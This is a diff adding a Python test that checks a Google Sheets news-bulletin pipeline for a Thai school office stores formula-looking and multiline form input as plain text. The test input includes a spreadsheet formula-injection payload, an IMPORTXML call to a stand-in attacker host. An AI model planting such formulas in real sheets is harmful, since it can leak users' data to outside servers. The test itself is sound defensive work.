@@ -57,6 +57,33 @@ def test_cycle_with_new_approvals_is_a_few_reads_and_one_write(tmp_path: Path) -
     assert len(update.body["data"]) <= 2
 
 
+def test_formula_looking_and_multiline_input_stays_plain_text(tmp_path: Path) -> None:
+    from tests.fakes.sheets_api import Formula
+
+    title = '=IMPORTXML("https://evil.example.test/x","//a")'
+    body = "บรรทัดแรก\r\n+66812345678\r\n=1+1\nบรรทัดสุดท้าย"
+    tabs = office_tabs(5, TODAY)
+    header = tabs[FORM][0]
+    row: list[object] = [None] * len(header)
+    for name, value in (("ประทับเวลา", "25/11/2569 08:00:00"), ("ที่อยู่อีเมล", "a@example.test"),
+                        ("ชื่อโรงเรียน/หน่วยงาน", "โรงเรียนบ้านแม่แรม"), ("หัวข้อข่าว", title),
+                        ("เนื้อหาข่าว", body), ("อนุมัติ", True), ("กลุ่มเป้าหมาย", "เครือข่ายสะเมิง")):
+        row[header.index(name)] = value
+    tabs[FORM].append(row)
+    driver = GoogleDriver(tmp_path / "office", tabs)
+    report = driver.run_cycle()
+    assert report.published == 1
+    form = driver.book.tab(FORM)
+    assert not any(isinstance(v, Formula) for r in form.rows for v in r)
+    written = driver.table(FORM)[-1]
+    assert written["หัวข้อข่าว"] == title and written["เนื้อหาข่าว"] == body
+    assert written["สถานะ"] == "เผยแพร่แล้ว"
+    [update] = [c for c in driver.api.calls if c.kind == "values_batch_update"]
+    assert update.body["valueInputOption"] == "RAW"
+    mails = outbox(driver.config.parent / "outbox")
+    assert any("IMPORTXML" in str(m["Subject"]) for m in mails if m["X-PR-Kind"] == "bulletin")
+
+
 # ----------------------------------------------------------------------- people at work
 
 
